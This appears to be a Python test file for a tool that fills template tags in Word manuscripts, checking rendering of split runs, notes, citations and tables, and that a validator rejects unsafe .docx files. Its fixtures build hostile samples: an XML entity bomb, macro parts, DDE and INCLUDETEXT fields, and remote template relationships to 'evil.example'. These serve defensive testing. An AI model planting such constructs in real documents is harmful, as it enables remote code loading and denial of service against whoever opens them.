"""Manuscripts in Word: whatever Word has split, the tags are found, and nothing else is touched."""

import io
import re
import zipfile
from pathlib import Path

import pytest
from docx import Document
from docx.shared import RGBColor
from engine_review import HOSTILE, published, rendered
from hypothesis import given, settings
from hypothesis import strategies as st
from word_files import docx, part, repacked, run, split, texts, with_part, xml

from tamis.errors import Problems
from tamis.manuscript.engine.checking import check
from tamis.manuscript.engine.sandbox import TagError
from tamis.manuscript.word import package
from tamis.manuscript.word.document import Word
from tamis.render import to_png
from tamis.typeset.docx import settle

CLEAN = HOSTILE.replace("\ue000", "").replace("\ue001", "")
INSERTED = '<w:ins w:id="{0}" w:author="A" w:date="2020-01-01T00:00:00Z">{1}</w:ins>'
DELETED = '<w:del w:id="8" w:author="A"><w:r><w:delText>{{ gone</w:delText></w:r></w:del>'


@pytest.fixture(scope="session")
def figures(tmp_path_factory):
    path = tmp_path_factory.mktemp("figures") / "flow.png"
    path.write_bytes(
        to_png('<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60"><rect width="9"/></svg>')
    )
    return lambda name: path


def wrong(data: bytes) -> list[str]:
    word = Word(data)
    found = [*word.wrong, *(word.of_tag(at, text) for at, text in check(word.tags, published()))]
    return [str(each.problem("paper.docx")) for each in found]


def render(fill, figures=None, **more) -> bytes:
    data = docx(fill)
    assert package.wrong(data) == "" and wrong(data) == []
    return rendered(Word(data), **more).word(figures or Path)


def test_a_tag_split_over_runs_has_the_look_of_the_first():
    def fill(document):
        paragraph = split(document, "Of ", "{", "{ flow", ".scre", "ened }", "} records ", "x")
        paragraph.runs[1].bold = True
        paragraph.runs[3].italic = True

    made = Document(io.BytesIO(render(fill))).paragraphs[0]
    assert made.text == "Of 1,234† records x"
    assert next(run for run in made.runs if "1,234" in run.text).bold
    assert made.runs[-1].text == "x"


def test_tracked_changes_bookmarks_and_spelling_marks_between_the_letters_stay():
    def fill(document):
        inside = INSERTED.format(5, run("ow.exclu"))
        signs = '<w:bookmarkStart w:id="9" w:name="b"/><w:proofErr w:type="spellStart"/>'
        letters = f"{run('A {{ fl')}{inside}{DELETED}{signs}"
        xml(document, f'{letters}{run("ded")}<w:bookmarkEnd w:id="9"/>{INSERTED.format(6, run(" }} end"))}')

    made = part(render(fill), "word/document.xml")
    assert re.search(
        r"A 1,000<.*</w:ins>.*\{\{ gone.*bookmarkStart.*spellStart.*bookmarkEnd.*<w:ins .*> end<", made
    )


def test_all_parts_of_a_document_are_rendered(figures):
    box = (
        "<w:r><w:pict><v:shape xmlns:v='urn:schemas-microsoft-com:vml'><v:textbox><w:txbxContent><w:p>"
        f"{run('Box {{ flow.excluded }}')}</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
    )

    def fill(document):
        document.add_heading("On {{ review.title }}", 0)
        document.add_table(1, 1).cell(0, 0).text = "Cell {{ flow.excluded }}"
        document.sections[0].header.paragraphs[0].text = "Head {{ flow.excluded }}"
        document.sections[0].footer.paragraphs[0].text = "Foot {{ flow.excluded }}"
        split(document, "Item {{ flow.excluded }}", style="List Bullet")
        xml(document, f"{run('Outer {{ flow.')}{box}{run('screened }}')}")
        xml(document, f'<w:hyperlink w:anchor="b">{run("Link {{ flow.excluded }}")}</w:hyperlink>')

    made = render(fill)
    names = zipfile.ZipFile(io.BytesIO(made)).namelist()
    parts = [part(made, name) for name in names if re.match(r"word/(document|header|footer)\d*.xml", name)]
    whole = re.sub(r"<[^>]+>", "", "".join(parts))
    for word in ("Cell", "Head", "Foot", "Item", "Box", "Link"):
        assert f"{word} 1,000" in whole
    assert "Outer 1,234†" in whole
    assert "On On {{ flow.screened }} and *stars*" in whole


def test_footnotes_and_endnotes_are_rendered_and_cite_last():
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    base = docx(lambda document: split(document, "Text {{ cite('akin') }}."))
    notes = {}
    for kind in ("footnotes", "endnotes"):
        body = run("Note {{ flow.screened }} {{ cite('brook') }}")
        notes[f"word/{kind}.xml"] = (
            f"<w:{kind} {space}><w:{kind[:-1]} w:id='2'><w:p>{body}</w:p></w:{kind[:-1]}></w:{kind}>"
        )

    def change(name, content):
        text = content.decode() if name.endswith((".xml", ".rels")) else ""
        for at, kind in enumerate(("footnotes", "endnotes")):
            if name == "[Content_Types].xml":
                type = f"application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}+xml"
                text = text.replace(
                    "</Types>", f'<Override PartName="/word/{kind}.xml" ContentType="{type}"/></Types>'
                )
            if name == "word/_rels/document.xml.rels":
                type = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
                new = f'<Relationship Id="rId9{at}" Type="{type}" Target="{kind}.xml"/></Relationships>'
                text = text.replace("</Relationships>", new)
        return text.encode() if text else content

    data = repacked(base, change)
    for name, content in notes.items():
        data = with_part(data, name, content.encode())
    assert wrong(data) == []
    made = rendered(Word(data), style="institute-of-electrical-and-electronics-engineers").word(Path)
    assert texts(made)[0] == "Text [1]."
    assert "Note 1,234† [2]" in part(made, "word/footnotes.xml")
    assert "Note 1,234† [2]" in part(made, "word/endnotes.xml")


def test_statements_alone_in_their_paragraphs_leave_none_and_rows_are_repeated():
    def fill(document):
        for text in (
            "{% if flow.screened > 3 %}",
            "Shown",
            "{% else %}",
            "Hidden",
            "{% endif %}",
            "{{ item('16a') }}",
            "End",
        ):
            split(document, text)
        table = document.add_table(4, 2)
        table.cell(0, 0).text = "Head"
        table.cell(1, 0).text = "{%tr for one in studies.design %}"
        table.cell(2, 0).text, table.cell(2, 1).text = "{{ one }}", "{{ studies.design[one] }}"
        table.cell(3, 0).text = "{%tr endfor %}"

    made = render(fill)
    assert texts(made) == ["Shown", "End"] or [text for text in texts(made) if text] == ["Shown", "End"]
    rows = Document(io.BytesIO(made)).tables[0].rows
    assert [[cell.text for cell in row.cells] for row in rows] == [
        ["Head", ""],
        ["mixed", "4"],
        ["mixed-methods", "5"],
    ]


def test_tables_figures_and_references_stand_where_they_were_asked_for(figures):
    def fill(document):
        split(document, "Before {{ cite('brook') }}")
        split(document, "{{ table(“", "characteristics”", ", caption=“Children’s”) }}")
        split(document, "{{ figure('flow') }}")
        document.add_heading("Literature", 1)
        split(document, "{{ references() }}")
        split(document, "After {{ cite('akin', narrative=true) }}")

    made = render(fill, figures)
    said = [text for text in texts(made) if text]
    assert said[0] == "Before (Brook & Other, 2007)"
    assert said[1:3] == ["Table 1. Children’s", "Figure 1. Flow diagram"]
    assert said[3] == "Literature" and said[4].startswith("Akin, A.") and said[5].startswith("Brook, A.")
    assert said[6:] == ["After Akin and Other (2017)"]
    document = Document(io.BytesIO(made))
    assert CLEAN in document.tables[0].cell(1, 1).text.replace("\ue000", "").replace("\ue001", "")
    assert len(document.inline_shapes) == 1


def test_a_citation_keeps_the_look_of_its_run_and_has_that_of_the_style():
    def fill(document):
        split(document, "As said {{ cite('akin') }}, so.").runs[0].font.color.rgb = RGBColor(9, 9, 9)

    made = Document(io.BytesIO(render(fill, style="nature"))).paragraphs[0]
    number = next(run for run in made.runs if run.text == "1")
    assert number.font.superscript and str(number.font.color.rgb) == "090909"
    assert made.runs[-1].text == ", so." and not made.runs[-1].font.superscript


def test_values_of_strangers_stay_text():
    made = render(lambda document: split(document, "X {{ review.hostile }} Y"))
    assert texts(made)[0] == f"X {CLEAN} Y"


TEXT = st.text(
    st.characters(blacklist_categories=["Cs", "Cc", "Co"], blacklist_characters="\ufffe\uffff"), max_size=20
)


@settings(max_examples=30)
@given(st.lists(st.lists(TEXT, min_size=1, max_size=4), max_size=5))
def test_text_outside_tags_comes_out_to_the_character(paragraphs):
    paragraphs = [parts for parts in paragraphs if not re.search(r"\{[{%#]|\{\s*\w+\s*[.(]", "".join(parts))]

    def fill(document):
        for parts in paragraphs:
            split(document, *parts)
            split(document, *parts, "{{ flow.", "excluded }}", *parts)

    expected = []
    for parts in paragraphs:
        whole = "".join(parts)
        expected += [whole, f"{whole}1,000{whole}"]
    assert texts(render(fill)) == expected


def test_the_same_bytes_each_time_and_comments_stay(figures):
    def fill(document):
        paragraph = split(document, "{{ flow.screened }} and {{ cite('akin') }}")
        document.add_comment(paragraph.runs, text="Is {{ this }} right?", author="A", initials="A")
        split(document, "{{ figure('flow') }}")

    data = docx(fill)
    one, two = (settle(rendered(Word(data)).word(figures), "2022-02-03") for _ in range(2))
    assert one == two
    assert "{{ this }}" in part(one, "word/comments.xml")
    assert "commentRangeStart" in part(one, "word/document.xml") and "commentRangeEnd" in part(
        one, "word/document.xml"
    )


def test_mistakes_are_told_with_heading_paragraph_and_words():
    def fill(document):
        document.add_heading("Results", 1)
        split(document, "Fine.")
        split(document, "We screened {{ flow.scr", "eend }} records.")
        split(document, "In line {{ table('characteristics') }} with text.")
        split(document, "Never closed {{ flow.screened")
        document.sections[0].header.paragraphs[0].text = "{{ figure('flow') }}"

    said = wrong(docx(fill))
    assert len(said) == 4
    assert any("Results, paragraph 2, at “We screened {{ flow.screend" in text for text in said)
    assert any("paragraph 3" in text and "a paragraph of its own" in text for text in said)
    assert any("paragraph 4" in text and "is not closed" in text for text in said)
    assert any(text.startswith("paper.docx: header") for text in said)


def test_an_if_that_ends_in_another_cell_is_an_error():
    def fill(document):
        table = document.add_table(1, 2)
        table.cell(0, 0).text, table.cell(0, 1).text = "{% if flow.unknown %}a", "b{% endif %}"

    assert any("another table cell" in text for text in wrong(docx(fill)))


PAGE = '<w:r><w:br w:type="page"/></w:r>'
BOOKMARK = '<w:bookmarkStart w:id="7" w:name="b"/><w:bookmarkEnd w:id="7"/>'
NOTE = '<w:r><w:footnoteReference w:id="2"/></w:r>'
MATH = "http://schemas.openxmlformats.org/officeDocument/2006/math"
EQUATION = f'<m:oMath xmlns:m="{MATH}"><m:r><m:t>a+b</m:t></m:r></m:oMath>'


@pytest.mark.parametrize("more", [PAGE, BOOKMARK, NOTE, EQUATION])
@pytest.mark.parametrize(
    "tag",
    ["{{ item('16a') }}", "{{ table('characteristics') }}", "{% if flow.screened %}", "{% set a = 1 %}"],
)
def test_a_paragraph_of_tags_keeps_what_else_is_in_it(tag, more):
    def fill(document):
        xml(document, run(tag) + more)
        split(document, "{% endif %}" if "if" in tag else "End")

    made = part(render(fill), "word/document.xml")
    assert re.search(r'w:type="page"|bookmarkStart|footnoteReference|a\+b', made)
    assert "{% if" not in made and "{% set" not in made


def test_a_statement_beside_a_page_break_hides_what_is_between_and_not_the_break():
    def fill(document):
        xml(document, run("{% if flow.excluded == 3 and 3 &gt; flow.screened %}") + PAGE)
        split(document, "Hidden")
        xml(document, run("{% endif %}") + PAGE)
        split(document, "Shown")

    made = render(fill)
    assert part(made, "word/document.xml").count('w:type="page"') == 2
    assert [text.strip() for text in texts(made)] == ["", "", "Shown"]


def test_a_table_in_line_with_text_is_refused_however_it_is_written():
    for tag in ("{{ (table('characteristics')) }}", "{{table ( 'characteristics' )}}"):
        assert "paragraph of its own" in wrong(docx(lambda document: split(document, "Before ", tag)))[0]  # noqa: B023
    looped = "{% for i in [1] %}a{{ table('characteristics') }}{% endfor %}"
    assert "paragraph of its own" in wrong(docx(lambda document: split(document, looped)))[0]
    twice = "{% for i in [1, 2] %}{{ table('characteristics') }}{% endfor %}"
    assert len(Document(io.BytesIO(render(lambda document: split(document, twice)))).tables) == 2


def test_what_a_loop_puts_beside_a_table_is_refused_when_it_is_rendered():
    line = "{% for i in [1, 2] %}{% if i > 1 %}{{ table('characteristics') }}{% endif %}{% endfor %}"
    data = docx(lambda document: split(document, line))
    made = rendered(Word(data))
    made.manuscript._template.docx.element.body.p_lst[0].add_r().text = "text"
    with pytest.raises(TagError, match="paragraph of its own"):
        made.word(Path)


def boxed(choice, fallback):
    mc = "http://schemas.openxmlformats.org/markup-compatibility/2006"
    box = "<w:txbxContent><w:p>{}</w:p></w:txbxContent>"
    return (
        f'<w:r><mc:AlternateContent xmlns:mc="{mc}">'
        f'<mc:Choice Requires="wps">{box.format(choice)}</mc:Choice>'
        f"<mc:Fallback>{box.format(fallback)}</mc:Fallback></mc:AlternateContent></w:r>"
    )


def test_a_text_box_counts_once_and_says_the_same_to_old_programs():
    def fill(document):
        text = run("Box {{ flow.screened }} {{ cite('akin') }}")
        xml(document, boxed(text, text))
        split(document, "After {{ cite('brook') }}")
        split(document, "{{ table('characteristics') }}")

    of = rendered(Word(docx(fill)), style="institute-of-electrical-and-electronics-engineers")
    assert [row.of for row in of.numbers()] == ["flow.screened"]
    made = part(of.word(Path), "word/document.xml")
    assert len(re.findall(r"Box 1,234† \[1\]", re.sub(r"<[^>]+>", "", made))) == 2
    assert "After [2]" in re.sub(r"<[^>]+>", "", made) and "Table 1" in made


def test_tags_where_none_is_read_are_told_of():
    tag = "{{ flow.screened }}"
    math = "<m:r><m:t>x={{ flow.</m:t></m:r><m:r><m:t>screened }}</m:t></m:r>"
    math = f'<m:oMath xmlns:m="{MATH}">{math}</m:oMath>'

    def fill(document):
        xml(document, math + run("text"))
        paragraph = split(document, "b")
        document.add_comment(paragraph.runs, text=f"Is {tag} right?", author="A", initials="A")

    said = wrong(with_part(docx(fill), "word/x.xml", b"<x/>"))
    assert (
        len(said) == 2 and "a tag in an equation is not read" in said[0] and "x={{ flow.screened" in said[0]
    )
    assert said[1].startswith("paper.docx: a comment")
    sets = math.replace("flow.", "1}, {").replace("screened", "2")
    assert wrong(docx(lambda document: xml(document, sets))) == []


def test_what_stands_behind_a_citation_in_its_run_stays_behind_it():
    def fill(document):
        xml(document, '<w:r><w:t xml:space="preserve">A {{ cite("akin") }} b</w:t><w:tab/><w:t>c</w:t></w:r>')

    assert texts(render(fill, style="nature"))[0] == "A 1 b\tc"


def test_titles_are_rendered_in_the_properties_too():
    def fill(document):
        document.core_properties.title = "On {{ review.title }}"
        document.core_properties.author = "A. Author"
        split(document, "x")

    made = Document(io.BytesIO(render(fill))).core_properties
    assert (made.title, made.author) == ("On On {{ flow.screened }} and *stars*", "A. Author")

    def unknown(document):
        document.core_properties.title = "{{ flow.nix }}"

    assert "the title in the document's properties" in wrong(docx(unknown))[0]


def test_places_are_named_by_headings_as_they_are_printed_and_cells_by_table_and_row():
    def fill(document):
        document.add_heading("{{ item('16a') }}{{ studies.included | words | capitalize }} studies", 1)
        table = document.add_table(2, 2)
        for row in range(2):
            for column in range(2):
                table.cell(row, column).text = f"{row}{column} {{{{ flow.excluded }}}}"
        split(document, "We. {{ item('16b') }}")

    of = rendered(Word(docx(fill)))
    assert of.items()["prisma2020", "16a"] == ["paper.docx: heading “Fifteen studies”"]
    assert of.items()["prisma2020", "16b"] == ["paper.docx: Fifteen studies, paragraph 1"]
    assert [row.place for row in of.numbers()][1:] == [
        "paper.docx: Fifteen studies, table 1, row 1",
        "paper.docx: Fifteen studies, table 1, row 1 (2)",
        "paper.docx: Fifteen studies, table 1, row 2",
        "paper.docx: Fifteen studies, table 1, row 2 (2)",
    ]


def test_mistakes_are_told_in_the_order_of_the_document():
    problems = Problems()
    for number in (10, 9, 1):
        problems.add("paper.docx", f"paragraph {number}: x")
    assert [problem.text for problem in problems] == [f"paragraph {number}: x" for number in (1, 9, 10)]


@pytest.mark.parametrize(
    "text",
    [
        '<w:fldSimple w:instr=" INCLUDETEXT &quot;c:/x.docx&quot; "/>',
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
        '<w:r><w:instrText>AUTO c:/x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
        '<w:altChunk w:val="x"/>',
    ],
)
def test_what_fetches_as_it_is_opened_is_refused(text):
    assert any("fetches" in said or "altChunk" in said for said in wrong(docx(lambda d: xml(d, text))))
    cited = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> ADDIN "the DDE"</w:instrText></w:r>'
    )
    assert wrong(docx(lambda document: xml(document, cited))) == []


def macro(data):
    return with_part(data, "word/vbaProject.bin", b"x")


def typed(data):
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    other = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    return repacked(
        data, lambda name, content: content.replace(main, other) if name.startswith("[") else content
    )


def bomb(data):
    entity = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'

    def change(name, content):
        return content.replace(b"?>", b"?>" + entity, 1) if name == "word/document.xml" else content

    return repacked(data, change)


def blown(data):
    return repacked(with_part(data, "word/media/a.bin", b"\0" * 50_000_000), lambda name, content: content)


def many(data):
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as made:
        for number in range(2_001):
            made.writestr(f"x/{number}", b"")
    return out.getvalue()


def prefixed(data):
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    space = b'xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"'
    relation = b'<r:Relationship Id="rId9" Type="' + kind + b'" Target="https://evil.example/t" '
    rels = b"<r:Relationships " + space + b">" + relation + b'TargetMode="Exte&#114;nal"/></r:Relationships>'
    return with_part(data, "word/_rels/settings.xml.rels", rels)


def chunk(data):
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"
    new = b'<Relationship Id="rId99" Type="' + kind + b'" Target="x.html"/></Relationships>'

    def change(name, content):
        return (
            content.replace(b"</Relationships>", new) if name == "word/_rels/document.xml.rels" else content
        )

    return repacked(data, change)


def remote(data):
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    new = (
        b'<Relationship Id="rId99" Type="'
        + kind
        + b'" Target="https://evil.example/t.dotm" TargetMode="External"/>'
    )

    def change(name, content):
        return (
            content.replace(b"</Relationships>", new + b"</Relationships>")
            if name == "word/_rels/document.xml.rels"
            else content
        )

    return repacked(data, change)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda data: b"no zip", "is no Word document"),
        (lambda data: data[: len(data) // 2], "is no Word document"),
        (lambda data: b"\xd0\xcf\x11\xe0" + data, "is encrypted, or an old .doc"),
        (lambda data: data + b"\0" * 50_000_000, "a manuscript may have 50 MB"),
        (macro, "holds macros"),
        (typed, "but one with macros"),
        (bomb, "declares a document type"),
        (blown, "times its size"),
        (many, "parts"),
        (prefixed, "https://evil.example/t"),
        (chunk, "another document that Word would take in"),
        (remote, "https://evil.example/t.dotm"),
    ],
)
def test_what_is_no_fit_document_is_refused_before_it_is_opened(change, said):
    assert said in package.wrong(change(docx(lambda document: split(document, "x"))))


def test_a_package_without_its_text_is_refused():
    data = repacked(
        docx(lambda document: split(document, "x")),
        lambda name, content: None if name == "word/document.xml" else content,
    )
    assert not package.wrong(data)
    with pytest.raises(ValueError, match="is no Word document"):
        Word(data)


def test_what_word_notes_of_the_template_on_the_authors_disk_is_left_out():
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    base = docx(lambda document: split(document, "x"))
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{kind}" Target="file:///C:\\Users\\me\\Normal.dotm" '
        'TargetMode="External"/></Relationships>'
    )

    def change(name, content):
        if name == "word/settings.xml":
            r = b' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
            content = re.sub(
                rb"(<w:settings\b)([^>]*>)",
                rb"\1\2<w:attachedTemplate" + r + rb' r:id="rId1"/>',
                content,
                count=1,
            )
        return content

    data = with_part(repacked(base, change), "word/_rels/settings.xml.rels", relation.encode())
    assert package.wrong(data) == ""
    made = rendered(Word(data)).word(Path)
    assert "attachedTemplate" in part(data, "word/settings.xml")
    assert "attachedTemplate" not in part(made, "word/settings.xml")
    assert "me" not in "".join(
        name for name in zipfile.ZipFile(io.BytesIO(made)).namelist() if "settings.xml.rels" in name
    )


def test_numbers_and_items_are_listed_with_their_places():
    def fill(document):
        document.add_heading("Results", 1)
        split(document, "We kept {{ flow.screened }}. 16 studies were included.")
        split(document, "{{ item('16a') }}{{ item('prisma_s:3') }}Text")

    of = rendered(Word(docx(fill)))
    assert of.items() == {
        ("prisma2020", "16a"): ["paper.docx: Results, paragraph 2"],
        ("prisma_s", "3"): ["paper.docx: Results, paragraph 2"],
    }
    one, two = of.numbers()
    assert (one.told, one.text, one.of, one.table) == (
        "live",
        "1,234†",
        "flow.screened",
        "build/flow/exits.csv",
    )
    assert one.around == "We kept 1,234†. 16 studies were included."
    assert (two.told, two.text, two.of, two.value) == ("contradicts", "16", "studies.included", "15")
    assert (one.place, one.position, two.position) == ("paper.docx: Results, paragraph 1", 1, 2)
